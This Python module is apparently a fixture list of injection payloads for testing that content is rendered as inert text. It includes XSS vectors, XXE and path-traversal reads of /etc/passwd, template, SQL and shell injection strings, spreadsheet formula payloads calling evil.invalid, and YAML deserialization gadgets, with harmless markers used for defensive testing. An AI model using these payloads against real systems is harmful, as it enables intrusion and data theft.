"""Texts that would do something if anything on their way took them for its own language instead of text.

Each that could run a script counts it in `window.ran`; each that could load something asks `evil.invalid` for it.
"""

RUN = "window.ran=(window.ran||0)+1"
CALL = "alert(1)"
AWAY = "//evil.invalid/x"

ELEMENTS = [template.replace("RUN", RUN).replace("AWAY", AWAY) for template in (
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script >RUN</script >", "<script\t>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script src=AWAY></script>", "<script src='AWAY'>", "<script type=module>RUN</script>", "<script>//<![CDATA[RUN//]]></script>",
    "<script async defer src=data:text/javascript,RUN></script>", "<<script>RUN//<</script>", "<script/xss>RUN</script>",
    "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", "<IMG SRC=x OnErRoR=RUN>", "<img/src=x/onerror=RUN>", "<img src=AWAY>",
    "<img srcset='AWAY 1x'>", "<img src=`x`onerror=RUN>", "<image src=x onerror=RUN>", "<img src onerror=RUN//",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>", "<svg><use href=AWAY#x></svg>", "<svg><image href=AWAY></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<math href='javascript:RUN'>x</math>",
    "<body onload=RUN>", "<body onpageshow=RUN>", "<iframe src='javascript:RUN'></iframe>", "<iframe srcdoc='<script>parent.RUN</script>'>",
    "<iframe src=AWAY></iframe>", "<object data='javascript:RUN'></object>", "<object data=AWAY></object>", "<embed src='javascript:RUN'>",
    "<embed src=AWAY>", "<applet code=AWAY></applet>", "<link rel=stylesheet href=AWAY>", "<link rel=preload as=script href=AWAY>",
    "<link rel=import href=AWAY>", "<base href=AWAY>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=AWAY'>", "<meta http-equiv=Content-Security-Policy content=''>", "<style>@import 'AWAY';</style>",
    "<style>*{background:url(AWAY)}</style>", "<style onload=RUN></style>", "<video src=x onerror=RUN></video>", "<video poster=AWAY>",
    "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>", "<audio autoplay src=AWAY>", "<input autofocus onfocus=RUN>",
    "<input type=image src=x onerror=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<button autofocus onfocus=RUN>x",
    "<keygen autofocus onfocus=RUN>", "<details open ontoggle=RUN>", "<marquee onstart=RUN>x</marquee>", "<form action='javascript:RUN'><button>",
    "<form><button formaction='javascript:RUN'>x</button></form>", "<isindex action='javascript:RUN'>", "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<table background=AWAY>", "<td background=AWAY>", "<frameset onload=RUN>",
    "<frame src='javascript:RUN'>", "<layer src=AWAY></layer>", "<bgsound src=AWAY>", "<portal src=AWAY>", "<dialog open onclose=RUN>",
    "<p style='animation-name:x' onanimationstart=RUN>x", "<p onmouseover=RUN>x</p>", "<a onclick=RUN>x</a>", "<a href='javascript:RUN'>x</a>",
    "<a href=AWAY>x</a>", "<xss id=x tabindex=1 onfocus=RUN></xss>", "<div id=ran></div>", "<img name=ran><img name=cookie>",
    "<form id=main><input name=children></form>",
)]

BREAKING_OUT = [template.replace("RUN", RUN).replace("AWAY", AWAY) for template in (
    "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "</script><script>RUN</script>",
    "</ScRiPt ><svg onload=RUN>", "</dd></dl></article></main><script>RUN</script>", "</a><img src=x onerror=RUN>", "</h1><script>RUN</script>",
    "\"><script>RUN</script>", "'><script>RUN</script>", "\" onmouseover=RUN x=\"", "' onfocus=RUN autofocus x='", "\" autofocus onfocus=RUN \"",
    "` onload=RUN `", "--><script>RUN</script><!--", "--!><script>RUN</script>", "<!--><script>RUN</script>", "<!-- <script> -->", "]]><script>RUN</script>",
    "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><x/>", "<?php RUN ?>", "<% RUN %>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;&xxe;", "<xi:include href='file:///etc/passwd'/>", "</script", "<!--<script>", "<script><!--", "\"}</script><script>RUN</script>",
    "\",\"@type\":\"Thing\",\"x\":\"", "\\\"}];RUN;//", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "{\"__proto__\":{\"ran\":1}}", "__proto__", "constructor", "toString", "';RUN;'", "\";RUN;\"", "*/RUN/*", "//RUN", "\\", "\\\\", "\"", "'", "`", "<", ">", "&", "<>", "</", "<!", "<?",
)]

ENTITIES = [template.replace("RUN", RUN) for template in (
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;script&#x3e;RUN", "&#0000060script>RUN", "&LT;script&GT;", "&amp;lt;script&amp;gt;",
    "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253E", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "¼script¾RUN¼/script¾", "＜script＞RUN＜/script＞",
    "﹤script﹥RUN", "&nbsp;&copy;&#32;", "&notanentity;", "&#0;&#xD800;&#x110000;", "&#x202e;", "%00<script>RUN</script>", "%0d%0aSet-Cookie:a=b",
)]

ADDRESSES = [template.replace("RUN", RUN).replace("AWAY", AWAY) for template in (
    "javascript:RUN", "JaVaScRiPt:RUN", "javascript&colon;RUN", "java&Tab;script:RUN", "vbscript:msgbox(1)", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=RUN>", "file:///etc/passwd", "blob:x", "AWAY", "https:AWAY", "view-source:x",
    "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/absolute", "?q=<script>RUN</script>", "#<script>RUN</script>",
)]

TEMPLATES = [template.replace("RUN", RUN) for template in (
    "{{title}}", "{{{title}}}", "{{{{raw}}}}", "{{> parts/head}}", "{{#items}}x{{/items}}", "{{^x}}y{{/x}}", "{{! comment }}", "{{=<% %>=}}", "{{&name}}", "{{", "}}", "{{{", "{{.}}",
    "{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "{%raw%}", "{% include 'x' %}", "<%= RUN %>", "@{RUN}", "[[${RUN}]]", "$(id)", "`id`", "$HOME", "%s%n%x", "{0}", "\\(x)",
)]

MARKDOWN = [template.replace("RUN", RUN).replace("AWAY", AWAY) for template in (
    "[x](javascript:RUN)", "[x](<javascript:RUN>)", "![x](AWAY)", "![x](x\"onerror=\"RUN)", "[x]: javascript:RUN", "<javascript:RUN>", "<https:AWAY>", "[x][javascript:RUN]",
    "**x**", "__x__", "*x*", "~~x~~", "`<script>RUN</script>`", "```html", "<details><summary>x", "x | y", "\\| x", "[^1]: x", "$$x$$", "==x==", ":::x", "https:AWAY", "www.evil.invalid",
)]

STYLES = [template.replace("AWAY", AWAY) for template in (
    "};*{background:url(AWAY)}", "expression(alert(1))", "url(javascript:alert(1))", "@import url(AWAY);", "</style>", "x{-moz-binding:url(AWAY#x)}", "behavior:url(AWAY)",
)]

TYPESETTING = (
    "#eval(\"1\")", "#import \"x.typ\": *", "#include \"/etc/passwd\"", "#read(\"/etc/passwd\")", "#let x = 1", "#set page(width: 1cm)", "#show: it => none", "#{", "#[", "$ x $", "*x*", "_x_", "<label>", "@ref",
    "\\ x", "\\u{41}", "//x", "/*x*/", "= x", "- x", "~", "---", "x...y", "\\input{/etc/passwd}", "\\write18{id}", "\\def\\x{\\x}\\x", "\\begin{document}", "^^41", "$\\infty$",
)

TABLES = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.invalid\",\"x\")", "=IMPORTXML(\"http://evil.invalid\",\"/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "x\",=1+1,\"", "x;=1+1", "'=1+1", "＝1+1",
)

# In names of files, shells and databases nothing of the content stands; it does no harm to know.
OTHERS = (
    "' OR '1'='1", "'; DROP TABLE items; --", "$(touch /tmp/x)", "; touch /tmp/x;", "| touch /tmp/x", "!include x", "- &a [*a]", "!!python/object/apply:os.system [id]", "key: value", "? x", "%TAG ! x", "%YAML 1.2",
)

# Characters that are no text: `check` does not let them pass.
UNPRINTABLE = ("a\u0000b", "a\u0008b", "a\u001bb", "\u202egnp.exe", "a\u2066b\u2069", "a\u200bb", "a\ufeffb", "a\u00adb", "a\ue000b")

ALL = tuple(dict.fromkeys([
    *ELEMENTS, *BREAKING_OUT, *ENTITIES, *ADDRESSES, *TEMPLATES, *MARKDOWN, *STYLES, *TYPESETTING, *TABLES, *OTHERS]))
